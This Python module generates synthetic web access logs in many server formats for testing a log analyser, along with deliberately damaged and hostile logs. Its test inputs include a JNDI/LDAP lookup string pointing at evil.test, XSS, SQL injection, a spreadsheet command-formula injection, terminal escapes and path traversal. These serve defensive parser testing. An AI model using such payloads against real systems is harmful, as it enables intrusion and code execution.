"""Access logs with a known truth: drivers' visits, planned hit by hit, and the lines that servers write of them. Same seed, same log.

What counts is noted as each journey is planned (`Visit.saw`); nothing here ever reads a line. Where each form of lines comes from:

- Apache: mod_log_config, "common", "combined" and Debian's "vhost_combined"; `"`, backslashes and what is no ASCII as `\\"`, `\\\\`, `\\xc3`.
- nginx: ngx_http_log_module, "combined" (`"` as `\\x22`), and its `escape=json` with the names that handbooks use.
- Caddy: its access log of version 2.
- Amazon CloudFront: "Standard logging reference" (tabs, values in percent signs); S3: "Amazon S3 server access log format".
- Netlify: "Log Drains", traffic logs as NDJSON. Cloudflare: Logpush, "HTTP requests", with the three forms of time it can be told.
"""

from __future__ import annotations

import datetime as dt
import gzip
import json
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from random import Random
from urllib.parse import quote

HOST = "help.example.org"
SITE = f"https://{HOST}/"
ELSEWHERE = "shop.example.org"
CODES = ("1717395", "2069364", "2555048", "3535971", "4100064", "4744975", "5648633")
"""The demo operator's."""
NEVER_ISSUED = ("1234567", "7777777", "0000000")
LANGUAGES = ("en", "en", "en", "fr", "fr", "de", "nl", "es", "it")
PROBLEMS = ("cable-stuck", "card-declined", "cannot-pay", "slow-charging", "screen-black", "money-held")
TOPICS = ("plugs", "pay", "speed", "codes", "all", "words")
PEOPLE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-A546B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/27.0 Chrome/125.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Android 14; Mobile; rv:132.0) Gecko/132.0 Firefox/132.0",
    "Mozilla/5.0 (Linux; Android 12; CUBOT X30) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
    'Mozilla/5.0 (Linux; Android 13; Maker "Pro" 11 C:\\é) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Mobile Safari/537.36',
)
PROGRAMS = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36",
    "curl/8.9.1",
    "python-requests/2.32.3",
    "Go-http-client/2.0",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "",
)
OUTSIDE = (
    "",
    "",
    "",
    "https://www.google.com/",
    "https://www.example.org/where-to-charge",
    "android-app://com.example.camera/",
    "https://help.example.org.evil.test/1717395/",
    "https://evil.test/?u=https://help.example.org/g/en/pay/?s=1717395",
)
"""Pages that lead to a charger's page and are none of the site's."""
PROBES = ("/wp-login.php", "/.env", "/g/", "/xmlrpc.php?rsd", "/0/", "/17173955/", "/1717395/a/b/c/")
ASSETS = (
    "/assets/app.3f2a.css",
    "/sw.js",
    "/favicon.ico",
    "/robots.txt",
    "/s/i/0.json",
    "/g/en/words.json",
    "/b/en/1131fba27abaef03.json",
)

GAP = 1800
"""Seconds: a longer gap begins another visit."""
DAY = 86_400
FIRST_DAY = dt.date(2026, 10, 5)

Key = tuple[str, str, str, str, str]


@dataclass(frozen=True, slots=True)
class Hit:
    """A request. `milli`: seconds since 1970 times 1000. `fate`: what becomes of its line where the log tells agents and Referers;
    `page`: whether it is a page that counts, whoever asked for it."""

    milli: int
    address: str
    agent: str
    method: str
    target: str
    status: int
    referer: str = ""
    host: str = HOST
    purpose: str = ""
    size: int = 4711
    fate: str = "counted"
    page: bool = True

    @property
    def when(self) -> dt.datetime:
        """In UTC, to the thousandth of a second."""
        return dt.datetime.fromtimestamp(self.milli // 1000, dt.UTC) + dt.timedelta(
            milliseconds=self.milli % 1000
        )


@dataclass
class Made:
    """Hits in the order of their times, and what a report must say of them. `counts`: by hour (UTC), station, problem, language, kind."""

    hits: list[Hit] = field(default_factory=list)
    counts: Counter[Key] = field(default_factory=Counter)

    def fates(self, form: Form) -> Counter[str]:
        """How many lines of this form come to what, junk left aside. Without agents and Referers every page counts that does not say
        itself that nobody saw it."""
        held = [hit for hit in self.hits if form.holds(hit)]
        if "agent" not in form.lacks:
            return Counter(hit.fate for hit in held)
        asked_ahead = (
            "prefetch" if hit.fate == "prefetch" and "?offline" in hit.target else "" for hit in held
        )
        return Counter(
            fate or ("counted" if hit.page else "other") for fate, hit in zip(asked_ahead, held, strict=True)
        )


@dataclass
class Visit:
    """One visit as it should be counted: each thing that is seen counts once, at the hour it was first seen."""

    counts: Counter[Key]
    seen: set[tuple[str, str, str, str]] = field(default_factory=set)
    events: list[tuple[str, str]] = field(default_factory=list)

    def saw(
        self,
        hour: str,
        kind: str,
        station: str = "",
        problem: str = "",
        lang: str = "",
        *,
        scanned: bool = False,
    ) -> None:
        """A page that counts was opened in this hour."""
        known = [(kind, station, problem, lang)]
        if scanned:
            known.append(("scan", station, "", ""))
        if problem and kind in ("guide", "ok", "call"):
            known.append(("asked", station, problem, ""))
        for what, where, of, tongue in known:
            if (what, where, of, tongue) not in self.seen:
                self.seen.add((what, where, of, tongue))
                self.counts[hour, where, of, tongue, what] += 1
        self.events.append((hour, station if kind != "unknown" else ""))

    def end(self) -> None:
        """Nothing more is seen in this visit."""
        if self.events:
            station = next((station for _, station in self.events if station), "")
            self.counts[self.events[0][0], station, "", "", "visit"] += 1


class Person:
    """A driver's phone, and where in the site it is."""

    def __init__(self, made: Made, random: Random, address: str, agent: str, start: int) -> None:
        self.made, self.random, self.address, self.agent = made, random, address, agent
        self.second = start
        self.thousandth = random.choice((0, 7, 499, 501, 999))
        """The same in all hits: gaps between them are whole seconds."""
        self.visit = Visit(made.counts)
        self.code = random.choice(CODES)
        self.lang = random.choice(LANGUAGES)
        self.before = ""
        self.counted_at = start
        self.last_page: Hit | None = None

    def ask(
        self,
        target: str,
        status: int = 0,
        fate: str = "counted",
        method: str = "GET",
        **more: str | bool | int,
    ) -> None:
        """One request, now."""
        status = status or self.random.choice((200, 200, 200, 200, 304, 206))
        hit = {"referer": self.before, "size": self.random.randrange(200, 15_000)} | more
        made = Hit(
            self.second * 1000 + self.thousandth,
            self.address,
            self.agent,
            method,
            target,
            status,
            fate=fate,
            **hit,
        )  # type: ignore[arg-type]
        self.made.hits.append(made)
        if fate == "counted":
            self.counted_at, self.last_page = self.second, made

    def other(self, target: str, status: int = 200, method: str = "GET") -> None:
        """A request that is no page of drivers."""
        self.ask(target, status, "other", method, page=False)

    def open(
        self, target: str, kind: str, station: str = "", problem: str = "", lang: str = "", status: int = 0
    ) -> None:
        """A page that counts."""
        self.ask(target, status)
        inside = self.before.startswith(SITE)
        self.visit.saw(self.hour, kind, station, problem, lang, scanned=kind == "station" and not inside)
        if status != 404:
            self.before = SITE + target.lstrip("/")

    @property
    def hour(self) -> str:
        return dt.datetime.fromtimestamp(self.second, dt.UTC).strftime("%Y-%m-%dT%H")

    def wait(self, seconds: int) -> None:
        self.second += seconds

    def later(self) -> None:
        """So much later that it is another visit."""
        self.visit.end()
        self.visit = Visit(self.made.counts)
        self.wait(self.random.choice((GAP + 1, GAP + 2, 2 * GAP, 3 * 3600)))

    def past_midnight(self) -> None:
        """Over midnight (UTC), with hardly a gap: visits end there all the same, so that days add up."""
        self.visit.end()
        self.visit = Visit(self.made.counts)
        self.second = (self.second // DAY + 1) * DAY + self.random.choice((0, 1, 59))

    # What drivers do. Each is one step of a journey.

    def scan(self) -> None:
        """The sign is scanned: an app or nothing leads here."""
        self.before = self.random.choice(OUTSIDE)
        if self.random.random() < 0.1:
            self.other(f"/{self.code}", 301)
        lang = self.lang if self.random.random() < 0.1 else ""
        query = self.random.choice(("", "", "", "?fbclid=IwAR0x", "?utm_source=sign"))
        self.open(f"/{self.code}/{lang}{'/' if lang else ''}{query}", "station", self.code, lang=lang)
        if self.random.random() < 0.5:
            self.wait(1)
            for asset in self.random.sample(ASSETS, 2):
                self.other(asset, self.random.choice((200, 304, 404)))

    def other_language(self) -> None:
        self.open(f"/{self.code}/{self.lang}/", "station", self.code, lang=self.lang)

    def to(self, path: str, kind: str, problem: str = "", query: str = "") -> None:
        """A page further in: the charger comes with the link, or from the page before where scripts do not run."""
        carried = self.random.random() < 0.7
        parts = [query] if query else []
        if carried:
            parts.insert(self.random.randrange(len(parts) + 1), f"s={self.code}")
            parts += ["l=1"] if self.random.random() < 0.2 else []
        known = carried or self._code_before()
        self.open(
            path + ("?" + "&".join(parts) if parts else ""),
            kind,
            self.code if known else "",
            problem,
            self.lang,
        )

    def _code_before(self) -> bool:
        return self.before.startswith(SITE) and self.code in self.before

    def guide(self) -> None:
        slug = self.random.choice(PROBLEMS)
        variant = self.random.choice(("", "gb-2ac775c8/"))
        self.to(f"/g/{self.lang}/{slug}/{variant}", "guide", slug)
        if self.random.random() < 0.4:
            self.wait(self.random.randrange(20, 500))
            ending = self.random.choice(("ok", "ok", "call"))
            problem = self.random.choice((slug, slug, slug, ""))
            self.to(f"/{ending}/{self.lang}/", ending, problem, f"p={problem}" if problem else "")

    def topic(self) -> None:
        topic = self.random.choice(TOPICS)
        self.to(f"/g/{self.lang}/{topic}/{self.random.choice(('', 'gb-8b7e9e24/'))}", topic)

    def warning(self) -> None:
        self.to(f"/fake/{self.lang}/", "fake")

    def find(self) -> None:
        self.to(f"/s/{self.lang}/", "find")

    def keep(self) -> None:
        """The phone keeps the help: its worker fetches the charger's page, then what that leads to."""
        before, self.before = self.before, SITE + "sw.js"
        lang = self.random.choice(("", self.lang))
        self.ask(f"/{self.code}/{lang}{'/' if lang else ''}?offline", 200)
        self.visit.saw(self.hour, "kept", self.code, lang=lang)
        for slug in PROBLEMS[:2]:
            self.ask(f"/g/{self.lang}/{slug}/?offline", 200, "prefetch")
        self.ask(f"/g/{self.lang}/all/", 200, "prefetch")
        self.other("/b/en/1131fba27abaef03.json")
        self.before = before

    def mistyped(self) -> None:
        code = self.random.choice(NEVER_ISSUED)
        self.before = ""
        self.open(f"/{code}/", "unknown", code, status=404)

    def library(self) -> None:
        self.before = self.random.choice(("https://www.google.com/", ""))
        slug = self.random.choice(PROBLEMS)
        self.open(f"/problems/{slug}/", "library", problem=slug)

    def reload(self) -> None:
        """The page again, within the visit: counted once."""
        if last := self.last_page:
            self.ask(last.target, last.status, referer=last.referer)

    def nothing(self) -> None:
        """What is asked for and is no page opened by a driver."""
        guide = f"/g/{self.lang}/cable-stuck/?s={self.code}"
        self.other(guide, 200, "HEAD")
        self.other("/", 200)
        self.other(guide, self.random.choice((301, 308, 404, 500, 403)))
        self.other(f"/ok/{self.lang}/?p=cable-stuck", 405, "POST")
        self.ask(guide, 200, "prefetch", purpose=self.random.choice(("prefetch", "prefetch;prerender")))
        if self.random.random() < 0.3:
            self.ask(guide, 200, "desk", referer=f"{SITE}desk/{self.lang}/")
            self.other(f"/desk/{self.lang}/")
        if self.random.random() < 0.3:
            self.ask(guide, 200, "elsewhere", host=ELSEWHERE)

    _STEPS = (
        *("guide",) * 10,
        *("topic",) * 4,
        *("reload",) * 3,
        "other_language",
        "warning",
        "find",
        "keep",
        "nothing",
        "library",
        "mistyped",
        "scan",
    )

    def journey(self) -> None:
        """A visit's steps."""
        self.random.choice((*(self.scan,) * 9, self.library, self.mistyped, self.find))()
        for step in self.random.choices(self._STEPS, k=self.random.choice((0, 1, 1, 2, 3, 5))):
            # As long as a visit may rest, to the second: what does not count does not prolong it.
            rest = 3 if step == "nothing" else self.random.choice((3, 20, 70, 240, GAP))
            self.second = min(self.second + rest, self.counted_at + GAP)
            getattr(self, step)()


def made(seed: int, visits: int = 10_000, *, days: int = 10, first: dt.date = FIRST_DAY) -> Made:
    """So many visits, and between them programs that visit nothing. IPv4 addresses begin 198.18., IPv6 addresses 2001:db8:."""
    random = Random(seed)
    told = Made()
    start = int(dt.datetime.combine(first, dt.time(), dt.UTC).timestamp())
    done = people = 0
    while done < visits:
        day = start + random.randrange(days) * DAY
        # Late hours are for those who are meant to cross midnight; most of a visit's day lies before 18:00.
        person = Person(
            told, random, _address(people), random.choice(PEOPLE), day + random.randrange(60, 18 * 3600)
        )
        done += _live(person, visits - done, more_days=(day - start) // DAY + 1 < days)
        people += 1
        if random.random() < 0.15:
            _program(told, random, day)
    told.hits.sort(key=lambda hit: hit.milli)
    return told


def _live(person: Person, most: int, *, more_days: bool) -> int:
    """What one person does in a day or two: how many visits that was."""
    random, done = person.random, 1
    midnight = person.second // DAY * DAY + DAY
    if most > 1 and more_days and random.random() < 0.03:
        person.second = midnight - random.randrange(1, 20)
        person.scan()
        person.second = midnight - 1
        person.past_midnight()
        done = 2
    elif random.random() < 0.1:  # just within an hour, by less than a second
        person.second = person.second // 3600 * 3600 + 3599
    person.journey()
    while done < most and random.random() < 0.2 and person.second < midnight - 9 * 3600:
        person.later()
        person.journey()
        done += 1
    person.visit.end()
    return done


def _address(number: int) -> str:
    if number % 3 == 0:
        return f"2001:db8:{number >> 16:x}:{number & 0xFFFF:x}::1"
    return (
        f"198.18.{number >> 8 & 255}.{number & 255}"
        if number < 65_536
        else f"198.19.{number >> 8 & 255}.{number & 255}"
    )


def _program(told: Made, random: Random, day: int) -> None:
    """A crawler, a probe or a watchdog."""
    agent = random.choice(PROGRAMS)
    second = day + random.randrange(DAY - 100)
    address = f"198.18.{random.randrange(256)}.{random.randrange(256)}"
    for number in range(random.randrange(2, 12)):
        code, lang = random.choice(CODES), random.choice(LANGUAGES)
        target = random.choice(
            (
                f"/{code}/",
                f"/g/{lang}/cable-stuck/",
                f"/problems/{PROBLEMS[0]}/",
                f"/call/{lang}/?p=cable-stuck&s={code}",
            )
        )
        page = random.random() < 0.8
        target = target if page else random.choice(PROBES)
        told.hits.append(
            Hit(
                (second + number) * 1000,
                address,
                agent,
                "GET",
                target,
                200 if page else 404,
                fate="bot" if page else "other",
                page=page,
            )
        )


# ------------------------------------------------------------------------------------------------------------- lines


@dataclass(frozen=True)
class Form:
    """A form of log lines. `head`: lines before all others. `lacks`: what the form does not tell, of "host", "purpose", "agent"."""

    name: str
    line: Callable[[Hit], str]
    lacks: frozenset[str] = frozenset()
    head: tuple[str, ...] = ()

    def holds(self, hit: Hit) -> bool:
        """Whether a line stands for this hit: another site's log is another file where lines do not tell the site, and what only a header
        of the request tells apart is left out where headers are not logged."""
        elsewhere = "host" in self.lacks and hit.host != HOST
        return not elsewhere and not ("purpose" in self.lacks and hit.purpose)


def _clf_time(hit: Hit, hours: int = 0) -> str:
    return hit.when.astimezone(dt.timezone(dt.timedelta(hours=hours))).strftime("[%d/%b/%Y:%H:%M:%S %z]")


def _apache_escaped(text: str) -> str:
    plain = text.replace("\\", "\\\\").replace('"', '\\"')
    return "".join(
        one if 32 <= ord(one) < 127 else "".join(f"\\x{byte:02x}" for byte in one.encode()) for one in plain
    )


def _nginx_escaped(text: str) -> str:
    return "".join(
        one
        if 32 <= ord(one) < 127 and one not in '"\\'
        else "".join(f"\\x{byte:02X}" for byte in one.encode())
        for one in text
    )


def _common(hit: Hit, hours: int = 2) -> str:
    return f'{hit.address} - - {_clf_time(hit, hours)} "{hit.method} {hit.target} HTTP/1.1" {hit.status} {hit.size}'


def _combined(hit: Hit, escaped: Callable[[str], str], hours: int) -> str:
    return f'{_common(hit, hours)} "{escaped(hit.referer) or "-"}" "{escaped(hit.agent) or "-"}"'


def _json(value: Mapping[str, object]) -> str:
    return json.dumps(value, ensure_ascii=False, separators=(",", ":"))


def _nginx_json(hit: Hit) -> str:
    return _json(
        {
            "time_iso8601": hit.when.astimezone(dt.timezone(dt.timedelta(hours=2))).isoformat(
                timespec="seconds"
            ),
            "remote_addr": hit.address,
            "remote_user": "",
            "host": hit.host,
            "request_method": hit.method,
            "request_uri": hit.target,
            "server_protocol": "HTTP/2.0",
            "status": hit.status,
            "body_bytes_sent": hit.size,
            "request_time": 0.001,
            "http_referer": hit.referer,
            "http_user_agent": hit.agent,
            "http_sec_purpose": hit.purpose,
        }
    )


def _nginx_json_request(hit: Hit) -> str:
    return _json(
        {
            "time_local": _clf_time(hit, -5).strip("[]"),
            "client": hit.address,
            "request": f"{hit.method} {hit.target} HTTP/1.1",
            "status": str(hit.status),
            "size": str(hit.size),
            "referrer": hit.referer or "-",
            "user_agent": hit.agent or "-",
        }
    )


def _nginx_json_msec(hit: Hit) -> str:
    path, _, query = hit.target.partition("?")
    return _json(
        {
            "msec": f"{hit.milli / 1000:.3f}",
            "remote_addr": hit.address,
            "method": hit.method,
            "uri": path,
            "args": query,
            "server_name": hit.host,
            "status": str(hit.status),
            "http_referrer": hit.referer,
            "agent": hit.agent,
        }
    )


def _caddy(hit: Hit) -> str:
    headers = {
        "Accept": ["*/*"],
        "User-Agent": [hit.agent],
        "Referer": [hit.referer],
        "Sec-Purpose": [hit.purpose],
    }
    return _json(
        {
            "level": "info",
            "ts": hit.milli / 1000,
            "logger": "http.log.access.log0",
            "msg": "handled request",
            "request": {
                "remote_ip": hit.address,
                "remote_port": "52112",
                "client_ip": hit.address,
                "proto": "HTTP/2.0",
                "method": hit.method,
                "host": hit.host,
                "uri": hit.target,
                "headers": {name: value for name, value in headers.items() if value[0]},
                "tls": {
                    "resumed": False,
                    "version": 772,
                    "cipher_suite": 4865,
                    "proto": "h2",
                    "server_name": hit.host,
                },
            },
            "bytes_read": 0,
            "user_id": "",
            "duration": 0.000312,
            "size": hit.size,
            "status": hit.status,
            "resp_headers": {"Server": ["Caddy"], "Content-Type": ["text/html; charset=utf-8"]},
        }
    )


_CLOUDFRONT_FIELDS = (
    "date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) cs-uri-query cs(Cookie) "
    "x-edge-result-type x-edge-request-id x-host-header cs-protocol cs-bytes time-taken x-forwarded-for ssl-protocol ssl-cipher "
    "x-edge-response-result-type cs-protocol-version fle-status fle-encrypted-fields c-port time-to-first-byte x-edge-detailed-result-type "
    "sc-content-type sc-content-len sc-range-start sc-range-end"
)


def _cloudfront(hit: Hit) -> str:
    path, _, query = hit.target.partition("?")
    referer, agent = (quote(text, safe="/:?=&+;,()'#!*._-~@$") or "-" for text in (hit.referer, hit.agent))
    return "\t".join(
        (
            hit.when.strftime("%Y-%m-%d\t%H:%M:%S"),
            "LHR62-C1",
            str(hit.size),
            hit.address,
            hit.method,
            "d111111abcdef8.cloudfront.net",
            path,
            str(hit.status),
            referer,
            agent,
            query or "-",
            "-",
            "Hit",
            "0NUpW4eUqWtM31BVaY_kCQ==",
            hit.host,
            "https",
            "23",
            "0.001",
            "-",
            "TLSv1.3",
            "TLS_AES_128_GCM_SHA256",
            "Hit",
            "HTTP/2.0",
            "-",
            "-",
            "11040",
            "0.001",
            "Hit",
            "text/html",
            "78",
            "-",
            "-",
        )
    )


def _s3(hit: Hit) -> str:
    owner = "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be"
    key = quote(hit.target.partition("?")[0].strip("/")) or "-"
    agent, referer = (
        text.replace('"', "'").encode("ascii", "replace").decode() or "-" for text in (hit.agent, hit.referer)
    )
    return (
        f"{owner} help-site {_clf_time(hit)} {hit.address} - 3E57427F3EXAMPLE WEBSITE.{hit.method}.OBJECT {key} "
        f'"{hit.method} {hit.target} HTTP/1.1" {hit.status} - {hit.size} {hit.size} 7 6 "{referer}" "{agent}" - '
        f"s9lzHYrFp76ZVxRcpX9+5cjAnEH2ROuNkd2BHfIa6UkFVdtjf5mKR3/eTPFvsiP/XV/VLi31234= - - - {HOST} - - -"
    )


def _netlify(hit: Hit) -> str:
    return _json(
        {
            "account_id": "5f00",
            "branch": "main",
            "client_ip": hit.address,
            "content_type": "text/html; charset=UTF-8",
            "country": "GB",
            "duration": 12,
            "log_type": "traffic",
            "method": hit.method,
            "referrer": hit.referer,
            "request_id": "01JD00",
            "site_id": "5f01",
            "status_code": hit.status,
            "timestamp": hit.when.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
            "url": f"https://{hit.host}{hit.target}",
            "user_agent": hit.agent,
        }
    )


def _cloudflare(hit: Hit, stamp: Callable[[Hit], int | str]) -> str:
    return _json(
        {
            "ClientIP": hit.address,
            "ClientRequestHost": hit.host,
            "ClientRequestMethod": hit.method,
            "ClientRequestURI": hit.target,
            "EdgeEndTimestamp": stamp(hit),
            "EdgeResponseBytes": hit.size,
            "EdgeResponseStatus": hit.status,
            "EdgeStartTimestamp": stamp(hit),
            "RayID": "41ddf1740f67442d",
            "ClientRequestReferer": hit.referer,
            "ClientRequestUserAgent": hit.agent,
        }
    )


_NO_PURPOSE, _BARE = frozenset({"purpose"}), frozenset({"host", "purpose"})
FORMS: Mapping[str, Form] = {
    form.name: form
    for form in (
        Form("apache_common", _common, _BARE | {"agent"}),
        Form("apache_combined", lambda hit: _combined(hit, _apache_escaped, 2), _BARE),
        Form(
            "apache_vhost_combined",
            lambda hit: f"{hit.host}:443 {_combined(hit, _apache_escaped, -11)}",
            _NO_PURPOSE,
        ),
        Form("nginx_combined", lambda hit: _combined(hit, _nginx_escaped, 0), _BARE),
        Form("nginx_json", _nginx_json),
        Form("nginx_json_request", _nginx_json_request, _BARE),
        Form("nginx_json_msec", _nginx_json_msec, _NO_PURPOSE),
        Form("caddy_json", _caddy),
        Form("cloudfront", _cloudfront, _NO_PURPOSE, ("#Version: 1.0", f"#Fields: {_CLOUDFRONT_FIELDS}")),
        Form("s3", _s3, _BARE),
        Form("netlify", _netlify, _NO_PURPOSE),
        Form("cloudflare", lambda hit: _cloudflare(hit, lambda one: one.milli * 1_000_000), _NO_PURPOSE),
        Form("cloudflare_unix", lambda hit: _cloudflare(hit, lambda one: one.milli // 1000), _NO_PURPOSE),
        Form(
            "cloudflare_rfc3339",
            lambda hit: _cloudflare(hit, lambda one: f"{one.when:%Y-%m-%dT%H:%M:%SZ}"),
            _NO_PURPOSE,
        ),
    )
}

JUNK = (
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    b'"',
    b"- - -",
    b"{",
    b'{"status": 200}',
    b"=cmd|' /C calc'!A0",
    b"\xff\xfe\xfd",
    b"\x1b]0;x\x07",
)
"""Lines that are none, in any form."""
PACKING = ("", ".gz", ".zst")


def lines(hits: Iterable[Hit], form: Form, junk: int = 0) -> Iterator[bytes]:
    """The lines of a log, without their ends; after each `junk` of them one that is none."""
    yield from (line.encode() for line in form.head)
    for number, hit in enumerate((hit for hit in hits if form.holds(hit)), 1):
        yield form.line(hit).encode()
        if junk and number % junk == 0:
            yield JUNK[number // junk % len(JUNK)]


def write(hits: Iterable[Hit], form: Form, path: Path, junk: int = 0) -> int:
    """Write a log, packed as the end of its name says; how many lines of junk are in it."""
    written = list(lines(hits, form, junk))
    data = b"\n".join(written) + b"\n"
    if path.suffix == ".gz":
        half = len(data) // 2  # two members, as logs that were put together have them
        data = gzip.compress(data[:half], 1, mtime=0) + gzip.compress(data[half:], 1, mtime=0)
    elif path.suffix == ".zst":
        import zstandard

        data = zstandard.ZstdCompressor(1).compress(data)
    path.write_bytes(data)
    return sum(line in JUNK for line in written)


# ----------------------------------------------------------------------------------------------------------- bad input

_GOOD = (
    '198.51.100.7 - - [05/Oct/2026:07:00:00 +0000] "GET /1717395/ HTTP/1.1" 200 99 "-" "Mozilla/5.0 (X11)"'
)


def bad_logs() -> Mapping[str, bytes]:
    """Whole logs that are hostile or damaged, by what is wrong. A line of 100 MB is in none: see `long_line`."""
    said = [_GOOD, *(_GOOD.replace("Mozilla/5.0 (X11)", agent) for agent in _HOSTILE)]
    paths = [_GOOD.replace("/1717395/", target) for target in _HOSTILE_TARGETS]
    times = [_GOOD.replace("05/Oct/2026:07:00:00", when) for when in _ODD_TIMES]
    good = f"{_GOOD}\n".encode()
    return {
        "empty": b"",
        "one end of line": b"\n",
        "no end of line": _GOOD.encode(),
        "binary": bytes(range(256)) * 64,
        "NULs": good + b"\0" * 5000 + b"\n" + good,
        "invalid UTF-8": good + _GOOD.encode().replace(b"X11", b"\xc3\x28\xff") + b"\n" + good,
        "CRLF": good.replace(b"\n", b"\r\n") * 3,
        "byte order mark": b"\xef\xbb\xbf" + good * 2,
        "hostile agents": "\n".join(said).encode() + b"\n",
        "hostile paths": "\n".join(paths).encode() + b"\n",
        "odd times": "\n".join([_GOOD, *times]).encode() + b"\n",
        "unbalanced quotes": good
        + _GOOD.replace('"Mozilla', "Mozilla").encode()
        + b"\n"
        + _GOOD[:-1].encode()
        + b"\n",
        "zones in addresses": good + _GOOD.replace("198.51.100.7", "fe80::1%eth0").encode() + b"\n",
        "missing fields": good + b"".join(_GOOD[:cut].encode() + b"\n" for cut in range(5, len(_GOOD), 9)),
        "another log": b"2026/10/05 07:00:00 [error] 1#1: *1 open() failed (2: No such file or directory)\n"
        * 20,
        "unfinished gzip": gzip.compress(good * 500, mtime=0)[:-20],
        "damaged gzip": _damaged(gzip.compress(b"".join(b"%d %s" % (n, good) for n in range(500)), mtime=0)),
        "gzip in name only": b"\x1f\x8b" + b"x" * 300,
        "zstd in name only": b"\x28\xb5\x2f\xfd" + b"x" * 300,
        "deep JSON": b'{"a":' * 5000 + b"1" + b"}" * 5000 + b"\n",
        "JSON of other things": b'{"status": {"a": 1}, "ts": [], "request": 7, "uri": null}\n' * 3,
        "JSON then junk": _nginx_json(_A_HIT).encode()
        + b'\n{"status":200,"ts":"x"}\n[1,2]\n"a"\nnull\n{"a\n',
    }


def _damaged(data: bytes) -> bytes:
    middle = len(data) // 2
    return data[:middle] + bytes(byte ^ 0x55 for byte in data[middle : middle + 40]) + data[middle + 40 :]


_A_HIT = Hit(1_790_000_000_000, "198.51.100.7", PEOPLE[0], "GET", "/1717395/", 200)
_HOSTILE = (
    "Mozilla/5.0 (\x1b[2J\x1b]0;owned\x07)",
    "Mozilla/5.0 (<script>alert(1)</script>)",
    "=HYPERLINK(0)",
    "Mozilla/5.0 (' OR 1=1; DROP TABLE hits;--",
    "Mozilla/5.0 (${jndi:ldap://evil.test/a})",
    "Mozilla/5.0 (\u202egnirts)",
    "Mozilla/5.0 (" + "A" * 20_000,
)
_HOSTILE_TARGETS = (
    "/g/en/<script>alert(1)</script>/",
    "/g/en/=cmd()/",
    "/g/';DROP%20TABLE/cable-stuck/",
    "/ok/en/?p=<img/src=x>",
    "/ok/en/?p==1+1",
    "/ok/en/?p=%00",
    "/call/en/?p=cable-stuck&s=../../etc",
    "/call/\x1b[31m/?p=x",
    "/problems/' UNION SELECT 1--/",
    "/g/en/\u202e/",
    "/?offline" * 500,
    "//1717395//",
    "*",
)
_ODD_TIMES = (
    "01/Jan/1970:00:00:00",
    "31/Dec/2099:23:59:59",
    "05/Oct/2026:06:00:00",
    "99/Oct/2026:07:00:00",
    "05/Xxx/2026:07:00:00",
    "05/Oct/0000:07:00:00",
    "05/Oct/99999:07:00:00",
    "29/Feb/2026:07:00:00",
    "05/Oct/2026:25:00:00",
)


def long_line(path: Path, size: int = 100_000_000) -> None:
    """Write a log with a line of this many bytes between two good ones."""
    with path.open("wb") as file:
        file.write(f"{_GOOD}\n{_GOOD[:-1]}".encode())
        for _ in range(size // 1_000_000):
            file.write(b"A" * 1_000_000)
        file.write(f'"\n{_GOOD}\n'.encode())
